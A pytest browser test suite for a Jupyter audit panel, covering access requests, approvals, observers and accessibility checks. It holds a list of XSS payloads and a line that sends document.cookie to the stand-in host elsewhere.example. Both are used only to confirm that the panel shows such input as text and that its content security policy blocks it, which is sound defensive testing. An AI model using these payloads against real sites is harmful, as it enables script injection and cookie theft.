"""The panel in a real browser: access from asking to ending, hostile words, several people, and no mouse."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
from support.servers import AuditedServer, audited_server, wait_for
from web_house import TOKENS, Person, close_everything

pytestmark = pytest.mark.browser

BASE = "/u/x/"
HOSTILE = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "</td></table></section><svg onload=window.hacked=1>",
    '"><details open ontoggle=window.hacked=1>',
    "{{ 7 * 7 }}{% raw %}",
    "javascript:window.hacked=1",
]
ARGUMENTS = ["--no-sandbox", "--disable-dev-shm-usage"]
POLLED_MS = 10_000


@pytest.fixture(scope="module")
def browser(browser_path: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=browser_path, args=ARGUMENTS)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def solo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AuditedServer]:
    folder = Path(tmp_path_factory.mktemp("solo"))
    with audited_server(folder, f"--ServerApp.base_url={BASE}", face="lab") as running:
        yield running


@pytest.fixture
def nothing_open(house: AuditedServer) -> None:
    """Take back what tests before this one left: requests that wait, grants in force."""
    close_everything(house)


@pytest.fixture
def open_panel(browser: Browser) -> Iterator[Callable[..., Page]]:
    """Open somebody's panel. At the end nothing may have gone wrong on any of the pages."""
    contexts: list[BrowserContext] = []
    wrong: list[str] = []

    def opened(server: AuditedServer, name: str | None = None, *, scheme: Any = "light", quiet: bool = True) -> Page:
        context = browser.new_context(color_scheme=scheme, viewport={"width": 1280, "height": 900})
        contexts.append(context)
        page = context.new_page()
        page.add_init_script(
            "window.stopped = [];addEventListener('securitypolicyviolation', event => stopped.push(event.violatedDirective))"
        )
        if quiet:
            page.on("pageerror", lambda error: wrong.append(str(error)))
            page.on("dialog", lambda dialog: wrong.append(f"dialog: {dialog.message}"))
            page.on("console", lambda said: wrong.append(said.text) if said.type == "error" else None)
        page.goto(f"{server.url}/audit/panel?token={TOKENS[name] if name else server.token}")
        page.wait_for_selector("#ledger")
        return page

    yield opened
    for context in contexts:
        context.close()
    assert wrong == []


def refresh(page: Page) -> None:
    """Have a page refresh itself now, as it does when somebody comes back to its tab."""
    with page.expect_response("**/audit/panel"):
        page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")


def ask(page: Page, reason: str = "Orders are charged twice", ticket: str = "SHOP-1042") -> None:
    page.get_by_label("Why do you need it?").fill(reason)
    page.get_by_label("Ticket", exact=True).fill(ticket)
    page.get_by_role("button", name="Request access").click()
    expect(page.locator("#mine")).to_contain_text("Your request waits for an answer")


def test_access_is_asked_for_approved_seen_and_ended_on_the_panel(solo: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(solo)
    expect(page.locator("#mine")).to_contain_text("You have no access now")
    ask(page)
    expect(page.locator("#mine")).to_contain_text("requester and approver are one person")
    page.get_by_role("button", name="Approve my own request").click()
    clock = page.locator("#mine .clock")
    expect(clock).to_have_text(re.compile(r"(29:\d\d|30:00)"))
    first = clock.inner_text()
    expect(clock).not_to_have_text(first)
    assert page.title().endswith("Audit panel")
    assert page.title()[0].isdigit()
    kernel = solo.kernel()
    kernel.run("print('first line')\nprint('second')")
    cell = page.locator("#cells tbody tr", has_text="print('first line')")
    expect(cell).to_contain_text("ok", timeout=POLLED_MS)
    expect(cell).to_contain_text("printed 2 lines")
    cell.locator("summary").click()
    expect(cell.locator("pre").first).to_have_text("print('first line')\nprint('second')")
    expect(cell.locator("pre").nth(1)).to_have_text("first line\nsecond\n")
    page.locator("#mine summary", has_text="End it now").click()
    expect(page.get_by_label("Why? Everything that runs under it")).to_be_focused()
    page.keyboard.type("found it")
    page.get_by_role("button", name="End it now").click()
    expect(page.locator("#mine")).to_contain_text("You have no access now")
    [ended] = [e for e in solo.entries("access.revoked") if e.body["reason"] == "found it"]
    assert ended.actor.vouched_by == "os-account"
    wait_for(lambda: solo.entries("session.ended", grant=ended.grant), "the end of the session")
    kernel.close()


def test_jupyterlab_leads_to_the_panel(solo: AuditedServer, browser: Browser) -> None:
    cell: dict[str, Any] = {
        "cell_type": "code",
        "id": "a",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": "1",
    }
    metadata = {"kernelspec": {"name": "audit", "display_name": "Python (audited)", "language": "python"}}
    notebook = {"cells": [cell], "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    (solo.work / "look.ipynb").write_text(json.dumps(notebook))
    context = browser.new_context()
    lab = context.new_page()
    lab.goto(f"{solo.url}/lab/tree/look.ipynb?token={solo.token}&reset")

    def leads_to(click: Callable[[], None]) -> str:
        with context.expect_page() as opening:
            click()
        opening.value.wait_for_selector("#ledger")
        address = opening.value.url
        opening.value.close()
        lab.bring_to_front()
        return address

    def menu(title: str) -> Callable[[], None]:
        label = lab.locator(".lm-MenuBar-itemLabel", has_text=re.compile(f"^{title}$"))
        item = lab.locator(".lm-Menu-itemLabel", has_text="Audit Panel")

        def chosen() -> bool:
            # A menu closes again when the window gets the focus back from the tab that was closed, whenever that is.
            if not item.is_visible():
                lab.keyboard.press("Escape")
                label.click()
            try:
                item.click(timeout=1_000)
            except PlaywrightTimeoutError:
                return False
            return True

        def click() -> None:
            wait_for(chosen, f"the menu {title} to lead to the panel")

        return click

    lab.wait_for_selector(".jp-NotebookPanel-toolbar [data-jp-item-name='audit-panel']", timeout=30_000)
    panel = f"{solo.url}/audit/panel"
    assert leads_to(lambda: lab.locator("[data-jp-item-name='audit-panel']").click()) == panel
    assert leads_to(menu("Audit")) == panel
    assert leads_to(menu("Help")) == panel
    context.close()


@pytest.mark.usefixtures("nothing_open")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_hostile_words_are_shown_and_never_run(house: AuditedServer, open_panel: Callable[..., Page], scheme: str) -> None:
    erin, ana = Person(house, "erin"), Person(house, "ana")
    kernel = replace(house, token=TOKENS["erin"]).kernel()
    requested = [erin.request_access(reason=f"{words} and why", ticket=re.sub(r"\s", "", words)) for words in HOSTILE]
    ana.post(f"requests/{requested.pop()}/approve")
    ana.post(f"requests/{requested.pop()}/deny", reason=HOSTILE[0])
    for words in HOSTILE:
        kernel.run(f"from IPython.display import publish_display_data as show; raise_ = {words!r}\nprint(raise_)")
        kernel.run(f"# {words}\nshow({{{words!r}: raise_, 'text/html': raise_}})")
        kernel.run(f"raise type({words!r}, (Exception,), {{}})(raise_)")
    kernel.close()
    for name in ("erin", "ana"):
        page = open_panel(house, name, scheme=scheme)
        page.wait_for_selector("#cells tbody tr")
        for row in page.locator("#cells details").all()[:6]:
            row.locator("summary").click()
            row.locator("pre").first.wait_for()
        shown = page.inner_text("body")
        for words in HOSTILE:
            assert words in shown
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("window.stopped") == [], "the policy had to stop something that got onto the page"
        assert page.locator("img, svg, iframe, object, main script").count() == 0


def test_the_policy_stops_what_would_get_onto_the_page(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(house, "erin", quiet=False)
    attempts = {
        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'": "TrustedHTML",
        "document.body.setAttribute('onclick', 'window.hacked=1')": "TrustedScript",
        "const s = document.createElement('script'); s.text = 'window.hacked=1'": "TrustedScript",
        "trustedTypes.createPolicy('mine', { createHTML: text => text })": "Policy",
    }
    for attempt, needed in attempts.items():
        with pytest.raises(PlaywrightError, match=needed):
            page.evaluate(attempt)
    page.evaluate(
        "const s = document.createElement('script'); s.append('window.hacked=1'); document.body.append(s);"
        "const i = document.createElement('img'); i.src = 'https://elsewhere.example/?' + document.cookie"
    )
    assert page.evaluate("window.hacked") is None
    stopped = " ".join(page.evaluate("window.stopped"))
    assert "require-trusted-types-for" in stopped
    assert "img-src" in stopped


class Seen(HTMLParser):
    """Keeps every tag of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, set[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name for name, _ in attrs}))


def test_the_first_paint_needs_no_script(house: AuditedServer) -> None:
    page = requests.get(f"{house.url}/audit/panel", headers={"Authorization": f"token {TOKENS['ana']}"}, timeout=60)
    assert page.headers["Content-Security-Policy"].startswith("default-src 'none'; script-src 'self'")
    assert "unsafe" not in page.headers["Content-Security-Policy"]
    assert page.headers["Cache-Control"] == "no-store"
    assert "Requests that wait for an answer" in page.text
    seen = Seen()
    seen.feed(page.text)
    assert {tag for tag, _ in seen.tags} >= {"main", "section"}
    assert not [tag for tag, _ in seen.tags if tag == "style"]
    assert not [tag for tag, attributes in seen.tags if tag == "script" and "src" not in attributes]
    assert not [name for _, attributes in seen.tags for name in attributes if name.startswith(("on", "style"))]


def test_a_stranger_is_sent_to_the_login_page(house: AuditedServer) -> None:
    answer = requests.get(f"{house.url}/audit/panel", allow_redirects=False, timeout=60)
    assert answer.status_code == 302
    assert "/login" in answer.headers["Location"]


@pytest.mark.usefixtures("nothing_open")
def test_one_asks_another_answers_and_a_third_sees_nothing_of_it(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    erin, ana, otto = (open_panel(house, name) for name in ("erin", "ana", "otto"))
    ask(erin, reason="The shop's totals are off by one cent")
    expect(erin.locator("#mine").get_by_role("button", name="Approve")).to_have_count(0)
    refresh(ana)
    request = ana.locator("#requests article", has_text="off by one cent")
    expect(request).to_contain_text("erin")
    request.locator("summary", has_text="Deny").click()
    request.get_by_label("Why is it denied?").fill("Not during the <freeze>")
    request.get_by_role("button", name="Deny").click()
    expect(ana.locator("#requests")).not_to_contain_text("off by one cent")
    refresh(erin)
    expect(erin.locator("#mine")).to_contain_text("ana denied your request")
    expect(erin.locator("#mine")).to_contain_text("Not during the <freeze>")
    assert "erin" not in otto.inner_text("body")
    assert "off by one cent" not in otto.inner_text("body")


@pytest.mark.usefixtures("nothing_open")
def test_access_of_others_is_seen_and_revoked(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    request = Person(house, "erin").request_access(reason="Looking at the returns")
    Person(house, "ana").post(f"requests/{request}/approve")
    aude, adam = open_panel(house, "aude"), open_panel(house, "adam")
    assert "Looking at the returns" in aude.inner_text("#grants")
    assert aude.locator("#grants").get_by_role("button").count() == 0
    row = adam.locator("#grants tr", has_text="Looking at the returns")
    row.locator("summary", has_text="Revoke").click()
    row.get_by_label("Why is it revoked?").fill("the ticket is closed")
    row.get_by_role("button", name="Revoke").click()
    expect(adam.locator("#grants")).not_to_contain_text("Looking at the returns")


@pytest.mark.usefixtures("nothing_open")
def test_what_somebody_types_outlives_a_refresh(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(house, "erin")
    page.get_by_label("Why do you need it?").fill("half a sent")
    Person(house, "erin").request_access(reason="from somewhere else")
    expect(page.locator("#mine")).to_contain_text("from somewhere else", timeout=POLLED_MS)
    assert page.get_by_label("Why do you need it?").input_value() == "half a sent"
    assert page.evaluate("document.activeElement.id") == "ask-reason"


@pytest.mark.usefixtures("nothing_open")
def test_an_error_is_a_sentence_on_the_page(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(house, "erin", quiet=False)
    page.get_by_label("Why do you need it?").fill("too short")
    page.get_by_label("Ticket", exact=True).fill("SHOP-1")
    page.get_by_role("button", name="Request access").click()
    expect(page.get_by_role("alert")).to_contain_text("The reason is too short")
    assert page.get_by_label("Why do you need it?").input_value() == "too short"


def test_a_server_that_is_gone_is_said_and_its_return_noticed(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(house, "otto", quiet=False)
    page.route("**/audit/panel", lambda route: route.abort())
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(page.get_by_role("alert")).to_contain_text("The server does not answer")
    page.unroute("**/audit/panel")
    refresh(page)
    expect(page.locator("#wrong")).to_be_hidden()


def test_a_hidden_page_asks_for_nothing(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(house, "otto")
    page.clock.install()
    page.reload()
    with page.expect_response("**/audit/panel"):
        page.clock.fast_forward(5_000)
    page.evaluate("Object.defineProperty(document, 'hidden', { value: true, configurable: true })")
    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for _ in range(60):
        page.clock.fast_forward(10_000)
    assert asked == []
    page.evaluate("Object.defineProperty(document, 'hidden', { value: false })")
    refresh(page)


def test_an_open_panel_is_one_entry_about_reading(house: AuditedServer, open_panel: Callable[..., Page]) -> None:
    Person(house, "erin").request_access(reason="so that there is something of hers")
    page = open_panel(house, "ana")
    for _ in range(3):
        refresh(page)
    read = [e for e in house.entries("ledger.read") if e.actor.name == "ana" and e.body["view"] == "panel"]
    assert len(read) == 1


NAMELESS = """() => [...document.querySelectorAll('button, input:not([type=hidden]), select, textarea, summary, a, pre, .clock')]
  .filter(e => !(e.labels && e.labels.length) && !e.textContent.trim() && !e.getAttribute('aria-label'))
  .map(e => e.outerHTML)"""

PALE = """() => {
  const rgb = text => (text.match(/[\\d.]+/g) || []).map(Number);
  const over = (top, under) => {
    const a = top[3] ?? 1;
    return [0, 1, 2].map(i => top[i] * a + under[i] * (1 - a));
  };
  const behind = e => {
    const layers = [];
    for (let n = e; n; n = n.parentElement) layers.push(rgb(getComputedStyle(n).backgroundColor));
    return layers.reverse().reduce((under, top) => over(top, under), [255, 255, 255]);
  };
  const linear = v => v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4;
  const light = c => c.reduce((sum, v, i) => sum + linear(v / 255) * [.2126, .7152, .0722][i], 0);
  const pale = [];
  for (const e of document.querySelectorAll('body *')) {
    const text = [...e.childNodes].filter(n => n.nodeType === 3).map(n => n.data.trim()).join('');
    if (!text || !e.checkVisibility()) continue;
    const under = behind(e), fore = over(rgb(getComputedStyle(e).color), under);
    const [a, b] = [light(fore), light(under)].sort((x, y) => y - x);
    const ratio = (a + .05) / (b + .05);
    if (ratio < 4.5) pale.push(`${ratio.toFixed(2)} ${e.tagName}.${e.className}: ${text.slice(0, 40)}`);
  }
  return pale;
}"""


@pytest.mark.usefixtures("nothing_open")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everything_has_a_name_and_can_be_read(house: AuditedServer, open_panel: Callable[..., Page], scheme: str) -> None:
    erin, ana = Person(house, "erin"), Person(house, "ana")
    ana.post(f"requests/{erin.request_access()}/approve")
    erin.request_access()
    for name in ("erin", "ana"):
        page = open_panel(house, name, scheme=scheme)
        page.evaluate("document.querySelectorAll('details:not(.cell)').forEach(found => { found.open = true; })")
        for cell in page.locator("details.cell summary").all()[:2]:
            cell.click()
            page.wait_for_selector("details.cell[open] pre")
        assert page.evaluate(NAMELESS) == []
        assert page.evaluate(PALE) == []


def test_access_can_be_had_without_a_mouse(solo: AuditedServer, open_panel: Callable[..., Page]) -> None:
    page = open_panel(solo)

    def tab_to(wanted: str) -> None:
        for _ in range(60):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.id").startswith(wanted):
                return
        raise AssertionError(f"the keyboard never came to {wanted}")

    tab_to("ask-reason")
    page.keyboard.type("Orders are charged twice")
    tab_to("ask-ticket")
    page.keyboard.type("SHOP-2")
    tab_to("ask-send")
    page.keyboard.press("Enter")
    expect(page.locator("#mine")).to_contain_text("Your request waits for an answer")
    assert page.evaluate("document.activeElement.id") == "said"
    tab_to("approve-")
    page.keyboard.press("Enter")
    expect(page.locator("#mine .clock")).to_be_visible()
    for grant in solo.api("GET", "grants?live=true")["grants"]:
        solo.revoke(grant["id"])


@pytest.mark.usefixtures("nothing_open")
def test_an_observer_watches_hostile_output_as_text_and_ends_the_session(
    house: AuditedServer, open_panel: Callable[..., Page]
) -> None:
    erin, ana = Person(house, "erin"), Person(house, "ana")
    ana.post(f"requests/{erin.request_access()}/approve")
    kernel = replace(house, token=TOKENS["erin"]).kernel()
    kernel.run("print('begun')")
    page = open_panel(house, "ana")
    page.get_by_role("link", name="Watch s-").first.click()
    live = page.locator("#live")
    for number, words in enumerate(HOSTILE):
        kernel.run(f"from IPython.display import publish_display_data as show; print({words!r} * 2)")
        kernel.run(f"show({{{words!r}: 1, 'text/html': {words!r}, 'text/plain': {words!r}}})")
        kernel.run(f"raise type({words!r}, (Exception,), {{}})({words!r})")
        kernel.run(f"# {words}\nprint('\\x1b]0;x\\x07\\u202egnp', {words!r}, 'number-{number}')")
    expect(live).to_contain_text(f"number-{len(HOSTILE) - 1}")
    for words in HOSTILE:
        expect(live).to_contain_text(f"# {words}")
    expect(live).to_contain_text("\\u202egnp")
    assert page.evaluate("[window.hacked, stopped.length]") == [None, 0]
    assert page.locator("#live script, #live img, #live svg, #live details").count() == 0
    assert erin.get("sessions")["sessions"][0]["watched_by"] == ["ana"]
    page.locator("summary", has_text="End this session").click()
    page.get_by_label("Why?").fill("it drops tables")
    page.get_by_role("button", name="End it").click()
    expect(page.locator("#said")).to_contain_text("session")
    ordered = house.await_entry("session.end_ordered", lambda e: e.body["reason"] == "it drops tables")
    assert house.await_entry("session.ended", lambda e: e.session == ordered.session).body["cause"] == "observer"
    kernel.close()
